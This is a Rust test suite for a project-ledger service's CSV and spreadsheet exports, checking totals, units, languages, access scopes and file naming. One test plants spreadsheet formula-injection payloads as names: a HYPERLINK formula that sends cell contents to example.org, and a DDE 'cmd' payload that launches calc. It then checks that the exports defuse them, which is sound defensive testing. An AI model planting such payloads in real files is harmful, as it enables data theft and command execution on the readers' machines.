//! Tables for people: the numbers of the JSON, as CSV and as a spreadsheet, and nothing that is run when they are opened.

use std::collections::BTreeSet;
use std::io::Cursor;

use calamine::{Data, DataType, Range, Reader, Xlsx};
use reqwest::Method;
use serde_json::{Value, json};
use taizhang::auth::Role;
use taizhang::print::negotiate::{CSV, PRINTABLE, XLSX};

use crate::support::contract::CONTRACT;
use crate::support::library::{add_account, day, fen, fields, id, with};
use crate::support::{Client, Reply, Server};

const DAWA: &str = "211104";
/// How many columns follow those of the dimensions.
const MEASURES: usize = 10;

/// Asks for a form of an answer, in English.
async fn asked(client: &Client, path: &str, accept: &str) -> Reply {
    let request = client.request(Method::GET, path).header("accept", accept);
    request.english().send().await
}

/// The lines of a CSV file.
fn lines(reply: &Reply) -> Vec<Vec<String>> {
    let text = std::str::from_utf8(&reply.bytes).unwrap();
    let text = text.strip_prefix('\u{FEFF}').expect("a byte order mark");
    assert!(text.ends_with("\r\n"));
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes());
    let records = reader.records().map(|record| record.unwrap());
    records
        .map(|record| record.iter().map(str::to_owned).collect())
        .collect()
}

/// A table as it was printed.
struct Printed {
    headings: Vec<String>,
    rows: Vec<Vec<String>>,
    total: Vec<String>,
    notes: Vec<String>,
}

impl Printed {
    fn of(reply: &Reply) -> Self {
        let mut lines = lines(reply);
        let headings = lines.remove(0);
        let is_row = |line: &Vec<String>| line.len() == headings.len();
        let end = lines.iter().position(|line| !is_row(line)).unwrap();
        let notes = lines.split_off(end).into_iter().flatten().collect();
        let total = lines.pop().unwrap();
        Self {
            headings,
            rows: lines,
            total,
            notes,
        }
    }
}

/// The one sheet of a spreadsheet.
fn sheet(reply: &Reply) -> Range<Data> {
    let mut book = Xlsx::new(Cursor::new(reply.bytes.clone())).unwrap();
    let [name] = &book.sheet_names()[..] else {
        panic!("one sheet: {:?}", book.sheet_names());
    };
    let name = name.clone();
    assert!(book.worksheet_formula(&name).unwrap().is_empty());
    book.worksheet_range(&name).unwrap()
}

/// A sum in 元 as JSON tells it, or nothing where it is of no project.
fn amount(measures: &Value, of: &str) -> String {
    match measures[of]["count"].as_u64().unwrap() {
        0 => String::new(),
        _ => measures[of]["sum"].as_str().unwrap().to_owned(),
    }
}

/// A sum of figures as JSON tells it, or nothing where none was told.
fn figure(measures: &Value, of: &str) -> String {
    match measures["told"][of].as_u64().unwrap() {
        0 => String::new(),
        _ => measures[of].as_str().unwrap().to_owned(),
    }
}

/// What JSON says of a cell or a total, as a row of a table in 元 has it behind the dimensions.
fn told(measures: &Value) -> [String; MEASURES] {
    let count = |value: &Value| value.as_u64().unwrap().to_string();
    [
        count(&measures["count"]),
        count(&measures["exact"]["count"]),
        amount(measures, "exact"),
        count(&measures["floor"]["count"]),
        amount(measures, "floor"),
        count(&measures["undetermined"]),
        figure(measures, "annual_plan"),
        figure(measures, "completed_in_year"),
        figure(measures, "completed_total"),
        figure(measures, "funds_received"),
    ]
}

/// 元 as 万元, rounded half up to two decimals.
fn wan(yuan: &str) -> String {
    if yuan.is_empty() {
        return String::new();
    }
    let rounded = (fen(yuan) + 5_000) / 10_000;
    format!("{}.{:02}", rounded / 100, rounded % 100)
}

/// Some projects with odd amounts beside the catalogue, and a manager who sees all.
async fn library() -> (Server, Client) {
    let server = Server::demo().await;
    let manager = server.sign_in("manager").await;
    for (name, amount) in [
        ("舍入甲", json!({ "exact": "12345678.91" })),
        ("舍入乙", json!({ "exact": "50000050.00" })),
        ("舍入丙", json!({ "floor": "49.99" })),
        ("舍入丁", Value::Null),
    ] {
        let amount = json!({ "total_investment": amount });
        let made = manager.register(&with(fields(name, DAWA), &amount)).await;
        let plan = json!({ "planned_investment": "1234567.89" });
        let path = format!("/v1/projects/{}/plan-years/2025", id(&made));
        let plan = manager.put(&path, &plan).if_none();
        plan.send().await.expect(201);
        let month = json!({ "completed": "7654321.05", "funds_received": "0.00" });
        let path = format!("/v1/projects/{}/investment/2025/3", id(&made));
        let month = manager.put(&path, &month).if_none();
        month.send().await.expect(201);
    }
    (server, manager)
}

#[tokio::test]
async fn csv_says_what_json_says() {
    let (_server, manager) = library().await;
    for (question, dimensions) in [
        ("?group_by=tier,stage&year=2025", 2),
        ("?group_by=region&year=2025", 1),
        ("?group_by=list", 1),
        ("?group_by=programme,unit&level=part", 2),
        ("?group_by=started_year,chain", 2),
        ("?group_by=tier&q=舍入", 1),
        ("?year=2025", 1),
    ] {
        let path = format!("/v1/summary{question}");
        let json = manager.get(&path).await.expect(200);
        let mark = if question.contains('?') { '&' } else { '?' };
        let path = format!("{path}{mark}money_unit=yuan");
        let csv = Printed::of(&asked(&manager, &path, CSV).await.expect(200));
        let cells = json.at("/cells").as_array().unwrap();
        assert_eq!(csv.headings.len(), dimensions + MEASURES + 1, "{path}");
        assert_eq!(csv.rows.len(), cells.len(), "{path}");
        for (row, cell) in csv.rows.iter().zip(cells) {
            let (measures, link) = row[dimensions..].split_at(MEASURES);
            assert_eq!(measures, told(cell), "{path}: {row:?}");
            assert_eq!(link, [cell["projects"].as_str().unwrap()]);
        }
        assert_eq!(csv.total[0], "Total");
        let (measures, link) = csv.total[dimensions..].split_at(MEASURES);
        assert_eq!(measures, told(json.at("/total")), "{path}");
        assert_eq!(link, [json.str("/projects")]);
        let adds_up = csv.notes.iter().any(|note| note.contains("several lists"));
        assert_eq!(adds_up, question.contains("list"), "{:?}", csv.notes);
    }
}

#[tokio::test]
async fn a_spreadsheet_says_it_in_numbers() {
    let (_server, manager) = library().await;
    let path = "/v1/summary?group_by=tier,region&year=2025";
    let json = manager.get(path).await.expect(200);
    let reply = asked(&manager, path, XLSX).await.expect(200);
    let range = sheet(&reply);
    assert_eq!(range.start(), Some((0, 0)));
    let rows: Vec<&[Data]> = range.rows().collect();
    let cells = json.at("/cells").as_array().unwrap();
    let below = rows.len() - cells.len() - 1;
    let text = |cell: &Data| cell.to_string();
    assert_eq!(text(&rows[0][0]), "Major projects, added up");
    assert_eq!(text(&rows[below - 1][0]), "Tier");
    assert_eq!(text(&rows[below - 1][4]), "Exact amounts (10,000 CNY)");
    let measures = cells.iter().chain([json.at("/total")]);
    for (row, measures) in rows[below..].iter().zip(measures) {
        let expected = told(measures);
        for (place, expected) in expected.iter().enumerate() {
            let is_amount = [2, 4, 6, 7, 8, 9].contains(&place);
            let expected = if is_amount {
                wan(expected)
            } else {
                expected.clone()
            };
            let expected = match expected.as_str() {
                "" => Data::Empty,
                number => Data::Float(number.parse().unwrap()),
            };
            assert_eq!(row[2 + place], expected, "{row:?}");
        }
        assert_eq!(
            text(&row[2 + MEASURES]),
            measures["projects"]
                .as_str()
                .unwrap_or(&json.str("/projects"))
        );
    }
    let notes: Vec<String> = rows[1..below - 1].iter().map(|row| text(&row[0])).collect();
    assert!(
        notes.iter().any(|note| note.starts_with("As of")),
        "{notes:?}"
    );
    assert!(
        notes.last().unwrap().contains("rounded half up"),
        "{notes:?}"
    );
}

#[tokio::test]
async fn what_is_not_known_is_left_empty() {
    let (_server, manager) = library().await;
    let path = "/v1/summary.csv?group_by=tier&q=舍入丁";
    let printed = Printed::of(&manager.get(path).await.expect(200));
    let [row] = &printed.rows[..] else {
        panic!("{:?}", printed.rows);
    };
    assert_eq!(row[..7], ["未定", "1", "0", "", "0", "", "1"]);
    assert_eq!(printed.total[..7], ["合计", "1", "0", "", "0", "", "1"]);
    // Nor has a project of no programme the programme nought.
    let path = "/v1/summary.csv?group_by=programme&q=舍入丁";
    let printed = Printed::of(&manager.get(path).await.expect(200));
    assert_eq!(printed.rows[0][0], "");
}

#[tokio::test]
async fn amounts_are_in_the_unit_that_is_asked_for_and_say_so() {
    let (_server, manager) = library().await;
    let base = "/v1/summary.csv?group_by=tier&q=舍入";
    for (unit, exact, floor, said, rounds) in [
        ("&money_unit=yuan", "62345728.91", "49.99", "（元）", false),
        ("&money_unit=wan", "6234.57", "0.00", "（万元）", true),
        ("", "6234.57", "0.00", "（万元）", true),
        ("&money_unit=yi", "0.62", "0.00", "（亿元）", true),
    ] {
        let printed = Printed::of(&manager.get(&format!("{base}{unit}")).await.expect(200));
        assert_eq!(
            (printed.total[3].as_str(), printed.total[5].as_str()),
            (exact, floor)
        );
        let of_amounts = printed.headings.iter().filter(|h| h.ends_with(said));
        assert_eq!(of_amounts.count(), 6, "{:?}", printed.headings);
        let note = printed.notes.last().unwrap();
        assert_eq!(note.contains("四舍五入"), rounds, "{note}");
        assert!(note.contains(said.trim_matches(['（', '）'])), "{note}");
        assert!(!printed.notes.iter().any(|note| note.contains("money_unit")));
    }
    for path in ["/v1/summary", "/v1/summary.csv", "/v1/summary.xlsx"] {
        for (unit, code) in [("dollar", "unknown_code"), ("", "empty_parameter")] {
            let reply = manager
                .get(&format!("{path}?money_unit={unit}"))
                .await
                .expect(400);
            assert_eq!(reply.error_codes(), [code], "{path}");
            assert_eq!(reply.at("/errors/0/parameter"), "money_unit");
        }
    }
}

#[tokio::test]
async fn the_form_follows_the_ending_or_else_what_is_accepted() {
    let server = Server::demo().await;
    let leader = server.sign_in("leader").await;
    let json = "application/json";
    for (path, accept, expected) in [
        ("/v1/summary", None, json),
        ("/v1/summary", Some("*/*"), json),
        ("/v1/summary", Some("application/pdf"), json),
        ("/v1/summary", Some("text/html, */*;q=0.8"), json),
        ("/v1/summary", Some("text/csv"), CSV),
        ("/v1/summary", Some("application/json;q=0.1, text/csv"), CSV),
        ("/v1/summary", Some(XLSX), XLSX),
        ("/v1/summary.csv", None, CSV),
        ("/v1/summary.csv", Some(XLSX), CSV),
        ("/v1/summary.csv?group_by=tier", Some(json), CSV),
        ("/v1/summary.xlsx", Some(json), XLSX),
    ] {
        for method in [Method::GET, Method::HEAD] {
            let mut request = leader.request(method.clone(), path);
            if let Some(accept) = accept {
                request = request.header("accept", accept);
            }
            let reply = request.send().await.expect(200);
            let sent = reply.header("content-type").unwrap();
            let what = format!("{method} {path} {accept:?}");
            assert_eq!(sent.split(';').next(), Some(expected), "{what}");
            let vary = reply.header("vary").unwrap();
            assert!(
                vary.split(", ").any(|name| name == "Accept"),
                "{what}: {vary}"
            );
            let file = reply.header("content-disposition");
            assert_eq!(file.is_some(), expected != json, "{what}");
            assert_eq!(reply.bytes.is_empty(), method == Method::HEAD, "{what}");
        }
    }
    let today = [day(0), day(1)];
    let csv = leader.get("/v1/summary.csv").await.expect(200);
    let file = csv.header("content-disposition").unwrap();
    let named = file
        .strip_prefix("attachment; filename=\"summary-")
        .unwrap();
    let named = named.strip_suffix(".csv\"").unwrap();
    // Should midnight fall between the two.
    assert!(today.iter().any(|day| day == named), "{file}");
    let notes = Printed::of(&csv).notes;
    assert!(
        notes[1].starts_with(&format!("截至：{named}T")),
        "{notes:?}"
    );
    assert!(notes[1].ends_with("+08:00"), "{notes:?}");
}

#[tokio::test]
async fn an_ending_means_nothing_where_there_is_no_table() {
    let server = Server::demo().await;
    let admin = server.sign_in("admin").await;
    // A code may end like a file.
    let unit = json!({ "name": "表格处", "region": "211100" });
    let path = "/v1/units/office.csv";
    admin.put(path, &unit).if_none().send().await.expect(201);
    let read = admin.get(path).await.expect(200);
    assert_eq!(read.str("/code"), "office.csv");
    for path in [
        "/v1/projects.csv",
        "/v1/projects.json",
        "/v1/summary.csv.csv",
        "/v1/.csv",
        "/.xlsx",
    ] {
        admin.get(path).await.expect(404);
    }
    let posted = admin.request(Method::POST, "/v1/summary.csv").send().await;
    assert_eq!(posted.status, 404);
}

#[tokio::test]
async fn headings_are_in_the_readers_language_and_values_have_names() {
    let (_server, manager) = library().await;
    let path = "/v1/summary.csv?group_by=region,stage&q=舍入甲";
    let chinese = manager.get(path).await.expect(200);
    assert_eq!(chinese.header("content-language"), Some("zh-CN"));
    let printed = Printed::of(&chinese);
    assert_eq!(printed.headings[..3], ["地区", "阶段", "项目数"]);
    assert_eq!(printed.rows[0][..2], ["大洼区", "谋划"]);
    assert!(
        printed.notes.iter().any(|note| note == "筛选：q=舍入甲"),
        "{:?}",
        printed.notes
    );
    let english = manager.request(Method::GET, path).english();
    let english = english.send().await.expect(200);
    assert_eq!(english.header("content-language"), Some("en"));
    let printed = Printed::of(&english);
    assert_eq!(printed.headings[..3], ["Region", "Stage", "Projects"]);
    assert_eq!(printed.rows[0][..2], ["大洼区", "planning"]);
}

/// Whether a spreadsheet that opens this as CSV would take it for a formula.
fn is_formula(field: &str) -> bool {
    let seen = field.trim_start_matches(|c: char| c.is_whitespace() || c.is_control());
    let is_number = field.trim_end_matches('%').parse::<f64>().is_ok();
    seen.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']) && !is_number
}

#[tokio::test]
async fn a_name_is_never_a_formula() {
    let server = Server::demo().await;
    let (admin, manager) = (
        server.sign_in("admin").await,
        server.sign_in("manager").await,
    );
    let names = [
        "=HYPERLINK(\"http://example.org?\"&A1,\"x\")",
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1,1)",
        "＝1+1",
        "－1",
        "\"=1+1\"",
        "名称,=1+1",
    ];
    for (number, name) in names.iter().enumerate() {
        let code = format!("formula-{number}");
        let path = format!("/v1/programmes/{code}");
        let made = admin.put(&path, &json!({ "name": name })).if_none();
        made.send().await.expect(201);
        let of_it = json!({ "programme": code, "name": name });
        manager.register(&with(fields("", DAWA), &of_it)).await;
    }
    // What is asked for stands in the notes.
    let path = "/v1/summary?group_by=programme&money_unit=yuan";
    for question in ["", "&q=%3D1%2B1", "&q=-2%2B3"] {
        let path = format!("{path}{question}");
        let csv = asked(&manager, &path, CSV).await.expect(200);
        let lines = lines(&csv);
        let formulas: Vec<&String> = lines.iter().flatten().filter(|f| is_formula(f)).collect();
        assert!(formulas.is_empty(), "{path}: {formulas:?}");
        let printed = Printed::of(&csv);
        let xlsx = sheet(&asked(&manager, &path, XLSX).await.expect(200));
        let texts: BTreeSet<String> = xlsx
            .cells()
            .filter_map(|(_, _, cell)| cell.get_string())
            .map(str::to_owned)
            .collect();
        for name in names.iter().filter(|_| question.is_empty()) {
            assert!(texts.contains(*name), "as it is in a spreadsheet: {name}");
            let shown = printed
                .rows
                .iter()
                .map(|row| row[0].trim_start_matches('\''));
            assert_eq!(shown.filter(|shown| shown == name).count(), 1, "{name}");
        }
    }
}

#[tokio::test]
async fn a_table_shows_what_its_reader_may_see_and_is_the_same_operation() {
    let (server, manager) = library().await;
    add_account(&server, "dawa", Role::Officer, Some(DAWA)).await;
    let officer = server.sign_in("dawa").await;
    let path = "?group_by=region&money_unit=yuan";
    let json = officer.get(&format!("/v1/summary{path}")).await.expect(200);
    let ending = format!("/v1/summary.csv{path}");
    let mine = officer.request(Method::GET, &ending).english();
    let mine = Printed::of(&mine.send().await.expect(200));
    assert_eq!(mine.total[1..=MEASURES], told(json.at("/total")));
    assert!(
        mine.rows.iter().all(|row| row[0] == "大洼区"),
        "{:?}",
        mine.rows
    );
    assert!(
        mine.notes
            .iter()
            .any(|note| note.contains("that you may see"))
    );
    let all = Printed::of(&manager.get(&ending).await.expect(200));
    assert_ne!(all.total[1], mine.total[1]);

    let nobody = server.anonymous().get(&ending).await.expect(401);
    assert_eq!(nobody.str("/instance"), "/v1/summary");
    let admin = server.sign_in("admin").await;
    let refused = admin.get(&ending).await.expect(403);
    assert_eq!(refused.code(), "forbidden");
    let auditor = server.sign_in("auditor").await;
    let denied = auditor.get("/v1/audit?result=denied").await.expect(200);
    assert_eq!(denied.str("/items/0/subject"), "operation/GET /v1/summary");
    let unknown = officer.get("/v1/summary.csv?colour=red").await.expect(400);
    assert_eq!(unknown.error_codes(), ["unknown_parameter"]);
}

#[tokio::test]
async fn two_equal_tables_are_equal_files() {
    let (_server, manager) = library().await;
    let now = chrono::Utc::now().format("%Y-%m-%dT%H:%M:%S%.6fZ");
    for form in ["csv", "xlsx"] {
        let path = format!("/v1/summary.{form}?group_by=tier,stage&as_of={now}");
        let first = manager.get(&path).await.expect(200);
        let second = manager.get(&path).await.expect(200);
        assert!(!first.bytes.is_empty());
        assert!(first.bytes == second.bytes, "{form}");
    }
}

/// The rows of a table that has no row of all together, or with it.
fn all_rows(printed: Printed) -> Vec<Vec<String>> {
    let Printed {
        mut rows, total, ..
    } = printed;
    rows.push(total);
    rows
}

/// The lines of the accounts in the order of their rows.
const LINES: [&str; 15] = [
    "planned",
    "signed",
    "landed",
    "funds_approved",
    "start_planned",
    "start_met",
    "under_construction",
    "new",
    "continued",
    "withdrawn",
    "completed",
    "commissioned",
    "at_capacity",
    "date_unknown/started",
    "date_unknown/completed",
];
/// How many rows a cell of the accounts has: its lines, and the five rates.
const ROWS: usize = LINES.len() + 5;

/// A text, or nothing.
fn text(value: &Value) -> String {
    value.as_str().unwrap_or_default().to_owned()
}

fn percent(value: &Value) -> String {
    value
        .as_str()
        .map_or_else(String::new, |percent| format!("{percent}%"))
}

#[tokio::test]
async fn the_accounts_as_a_table_say_what_json_says() {
    let (_server, manager) = library().await;
    let year = &day(0)[..4];
    for question in ["group_by=tier", "group_by=list,stage&level=part", ""] {
        for year in [year, "2025"] {
            let path = format!("/v1/accounts/{year}?{question}&compare=previous_year");
            let json = manager.get(&path.replace("?&", "?")).await.expect(200);
            let path = format!("{path}&money_unit=yuan").replace("?&", "?");
            let csv = asked(&manager, &path, CSV).await.expect(200);
            let printed = Printed::of(&csv);
            let dimensions = question.split(',').count();
            let headings = printed.headings.len();
            assert_eq!(headings, dimensions + 1 + 6 + 4 + 4 + 1, "{path}");
            let rows = all_rows(printed);
            let then = json.at("/comparisons/0");
            let cells = json.at("/cells").as_array().unwrap();
            let then_cells = then["cells"].as_array().unwrap();
            let keys = |cell: &Value| {
                let names = json.at("/group_by").as_array().unwrap();
                let names = names
                    .iter()
                    .map(|name| cell[name.as_str().unwrap()].clone());
                names.collect::<Vec<Value>>()
            };
            let added = then_cells.iter().map(&keys);
            let only_then = added.filter(|key| cells.iter().all(|cell| keys(cell) != *key));
            let only_then = if question.is_empty() {
                0
            } else {
                only_then.count()
            };
            let shown = if question.is_empty() { 0 } else { cells.len() };
            assert_eq!(rows.len(), (shown + only_then + 1) * ROWS, "{path}");
            let total = &rows[rows.len() - ROWS..];
            says_the_accounts(total, json.at("/total"), dimensions);
            if only_then == 0 {
                for (rows, cell) in rows.chunks(ROWS).zip(cells) {
                    says_the_accounts(rows, cell, dimensions);
                }
            }
        }
    }
}

/// Holds the rows of a cell against its accounts.
fn says_the_accounts(rows: &[Vec<String>], cell: &Value, dimensions: usize) {
    for (row, code) in rows.iter().zip(LINES) {
        let line = cell.pointer(&format!("/lines/{code}")).unwrap();
        let of = |place: usize| row[dimensions + 1 + place].as_str();
        assert_eq!(of(0), line["count"].to_string(), "{code}");
        assert_eq!(of(2), amount(line, "exact"), "{code}");
        assert_eq!(of(4), amount(line, "floor"), "{code}");
        assert_eq!(row.last().unwrap(), line["projects"].as_str().unwrap());
    }
    let rates = &rows[LINES.len()..];
    for (row, rate) in rates.iter().zip(cell["rates"].as_array().unwrap()) {
        let of = |place: usize| row[dimensions + 1 + place].as_str();
        assert_eq!(of(0), rate["denominator"].to_string());
        assert_eq!(of(6), rate["numerator"].to_string());
        assert_eq!(of(9), percent(&rate["percent"]));
    }
    let names = ["completion", "annual_completion", "funds_received"];
    for (row, name) in rates[2..].iter().zip(names) {
        let rate = &cell["investment_rates"][name];
        let of = |place: usize| row[dimensions + 1 + place].as_str();
        assert_eq!(of(0), rate["covered"].to_string(), "{name}");
        assert_eq!(of(7), text(&rate["numerator"]), "{name}");
        assert_eq!(of(8), text(&rate["denominator"]), "{name}");
        assert_eq!(of(9), percent(&rate["percent"]), "{name}");
    }
}

#[tokio::test]
async fn the_accounts_beside_those_of_the_year_before_say_by_how_much_they_differ() {
    let (_server, manager) = library().await;
    let year: i32 = day(0)[..4].parse().unwrap();
    let path = format!("/v1/accounts/{year}.csv?q=舍入&compare=same_day");
    let chinese = manager.get(&path).await.expect(200);
    let printed = Printed::of(&chinese);
    let first = printed.headings.len() - 5;
    let before = year - 1;
    assert_eq!(
        printed.headings[first..],
        [
            format!("{before} 年同期项目数"),
            format!("{before} 年同期比增减"),
            format!("{before} 年同期比增长"),
            format!("{before} 年同期比率"),
            "项目查询".to_owned()
        ]
    );
    let planned = &printed.rows[0];
    assert_eq!(planned[..3], ["合计", "新增谋划", "4"]);
    // What there was none of has not grown by a percentage.
    assert_eq!(planned[first..first + 3], ["0", "4", ""]);
    let file = chinese.header("content-disposition").unwrap();
    assert!(file.contains(&format!("accounts-{year}-")), "{file}");
}

#[tokio::test]
async fn the_difference_of_summaries_as_a_table_says_what_json_says() {
    let (_server, manager) = library().await;
    let from = chrono::Utc::now().to_rfc3339_opts(chrono::SecondsFormat::Micros, true);
    let of = |exact: &str| json!({ "total_investment": { "exact": exact } });
    let one = with(fields("变动一", DAWA), &of("30000000.00"));
    manager.register(&one).await;
    let known = manager.named("舍入甲").await["id"]
        .as_str()
        .unwrap()
        .to_owned();
    manager.amend(&known, &of("2345678.90")).await.expect(200);
    let to = chrono::Utc::now().to_rfc3339_opts(chrono::SecondsFormat::Micros, true);
    let path = format!("/v1/summary/diff?from={from}&to={to}");
    let json = manager.get(&path).await.expect(200);
    let path = format!("{path}&money_unit=yuan");
    let printed = Printed::of(&asked(&manager, &path, CSV).await.expect(200));
    let changes = json.at("/changes").as_array().unwrap();
    assert_eq!(printed.rows.len(), changes.len());
    assert!(changes.len() >= 2);
    let set = |measures: &Value| {
        if measures.is_null() {
            return vec![String::new(); 6];
        }
        vec![
            measures["count"].to_string(),
            measures["exact"]["count"].to_string(),
            amount(measures, "exact"),
            measures["floor"]["count"].to_string(),
            amount(measures, "floor"),
            measures["undetermined"].to_string(),
        ]
    };
    let more = |measures: &Value| {
        [
            measures["count"].to_string(),
            measures["exact"]["count"].to_string(),
            text(&measures["exact"]["sum"]),
            measures["floor"]["count"].to_string(),
            text(&measures["floor"]["sum"]),
            measures["undetermined"].to_string(),
        ]
    };
    for (row, change) in printed.rows.iter().zip(changes) {
        assert_eq!(row[6..12], set(&change["before"]), "{change}");
        assert_eq!(row[12..18], set(&change["after"]), "{change}");
        assert_eq!(row[18..24], more(&change["difference"]), "{change}");
        assert_eq!(row[24], change["projects"].as_str().unwrap());
    }
    assert_eq!(printed.total[18..24], more(json.at("/difference")));
    assert_eq!(printed.total[20], "19999999.99");
    let entered = printed.rows.iter().find(|row| row[0] == "entered").unwrap();
    assert_eq!(entered[1..4], ["registered", "", ""]);
    // The list of the projects behind it is none of people's tables.
    let projects = format!("/v1/summary/diff/projects.csv?from={from}&to={to}");
    manager.get(&projects).await.expect(404);
    let projects = format!("/v1/summary/diff/projects?from={from}&money_unit=yuan");
    let refused = manager.get(&projects).await.expect(400);
    assert_eq!(refused.error_codes(), ["unknown_parameter"]);
}

#[tokio::test]
async fn targets_as_a_table_are_in_their_units_and_money_in_the_readers() {
    let (_server, manager) = library().await;
    let odd = json!({
        "plan": "试验", "region": "211100", "name": "=1+1", "from_year": 2025, "to_year": 2025,
        "metric": "completed_investment", "value": "1234567.00", "unit": "yuan", "kind": "target",
    });
    let put = manager.put("/v1/targets/t-odd", &odd).if_none();
    put.send().await.expect(201);
    let path = "/v1/targets/attainment?period=2025";
    let json = manager.get(path).await.expect(200);
    let items = json.at("/items").as_array().unwrap();
    let printed = asked(&manager, path, CSV).await.expect(200);
    let lines = lines(&printed);
    assert!(!lines.iter().flatten().any(|field| is_formula(field)));
    let printed = Printed::of(&printed);
    let place = |heading: &str| printed.headings.iter().position(|h| h == heading).unwrap();
    let places = [
        "Unit",
        "Goal",
        "Reached",
        "Missing",
        "Rate",
        "Query of the projects",
    ]
    .map(place);
    let rows = all_rows(printed);
    assert_eq!(rows.len(), items.len());
    for (row, item) in rows.iter().zip(items) {
        assert_eq!(row[0], text(&item["target"]["code"]));
        let reached = &item["attainment"];
        let of = |name: &str| match item["target"]["unit"].as_str() {
            Some("yuan") => wan(&text(&reached[name])),
            Some("project") => text(&reached[name]).trim_end_matches(".00").to_owned(),
            _ => text(&reached[name]),
        };
        let [unit, goal, attained, missing, rate, link] = places.map(|place| row[place].clone());
        if !reached.is_null() {
            assert_eq!((goal, attained), (of("goal"), of("attained")), "{row:?}");
            assert_eq!((missing, rate), (of("missing"), percent(&reached["rate"])));
        }
        assert_eq!(link, text(&item["projects"]));
        let is_money = item["target"]["unit"] == "yuan";
        assert_eq!(unit == "10,000 CNY", is_money, "{row:?}");
    }
    // Four projects, each with 7,654,321.05 元 in March.
    let odd = rows.iter().find(|row| row[0] == "t-odd").unwrap();
    assert_eq!(odd[places[1]], "123.46");
    assert_eq!(odd[places[2]], "3061.73");
    let book = asked(&manager, "/v1/targets/attainment.xlsx?period=2025", XLSX).await;
    let book = sheet(&book.expect(200));
    let texts: Vec<&str> = book
        .cells()
        .filter_map(|(_, _, cell)| cell.get_string())
        .collect();
    assert!(texts.contains(&"=1+1"), "as it is in a spreadsheet");
    // No target is named as a table.
    let put = manager
        .put("/v1/targets/attainment.csv", &odd_named(&json))
        .if_none();
    assert_eq!(put.send().await.expect(422).pointers(), ["/code"]);
}

/// The fields of a target that is there.
fn odd_named(json: &Reply) -> Value {
    let items = json.at("/items").as_array().unwrap();
    let found = items.iter().find(|item| item["target"]["code"] == "t-odd");
    let mut target = found.unwrap()["target"].clone();
    for name in ["code", "version", "recorded_at"] {
        target.as_object_mut().unwrap().remove(name);
    }
    target
}

#[tokio::test]
async fn each_table_is_a_spreadsheet_too_and_keeps_to_what_its_reader_may_see() {
    let (server, manager) = library().await;
    add_account(&server, "dawa", Role::Officer, Some(DAWA)).await;
    let officer = server.sign_in("dawa").await;
    let from = chrono::Utc::now().to_rfc3339_opts(chrono::SecondsFormat::Micros, true);
    manager.register(&fields("新来的", DAWA)).await;
    for (path, question) in [
        ("/v1/accounts/2025", String::new()),
        ("/v1/summary/diff", format!("?from={from}")),
        ("/v1/targets/attainment", String::new()),
    ] {
        let xlsx = manager
            .get(&format!("{path}.xlsx{question}"))
            .await
            .expect(200);
        assert!(sheet(&xlsx).rows().count() > 5, "{path}");
        let kind = xlsx.header("content-type").unwrap();
        assert_eq!(kind, XLSX, "{path}");
        let request = officer.request(Method::GET, &format!("{path}.csv{question}"));
        let csv = request.english().send().await.expect(200);
        let text = String::from_utf8(csv.bytes.clone()).unwrap();
        assert!(text.contains("that you may see"), "{path}");
        let colour = format!("{path}.csv?colour=red");
        let colour = manager.get(&colour).await.expect(400);
        assert_eq!(colour.error_codes(), ["unknown_parameter"], "{path}");
        let nobody = server.anonymous();
        nobody
            .get(&format!("{path}.csv{question}"))
            .await
            .expect(401);
    }
}

#[test]
fn the_contract_declares_tables_where_there_are_some() {
    let paths = CONTRACT["paths"].as_object().unwrap();
    let content = |item: &Value| item["get"]["responses"]["200"]["content"].clone();
    let declared: BTreeSet<&str> = paths
        .iter()
        .filter(|(_, item)| content(item).get(CSV).is_some())
        .map(|(path, _)| path.as_str())
        .collect();
    assert_eq!(declared, PRINTABLE.into());
    for path in PRINTABLE {
        let operation = &paths[path]["get"];
        assert!(content(&paths[path]).get(XLSX).is_some(), "{path}");
        let parameters = operation["parameters"].as_array().unwrap();
        assert!(
            parameters.iter().any(|p| p["name"] == "money_unit"),
            "{path}"
        );
        let said = operation["description"].as_str().unwrap();
        assert!(said.contains(".csv") && said.contains(".xlsx"), "{path}");
    }
}
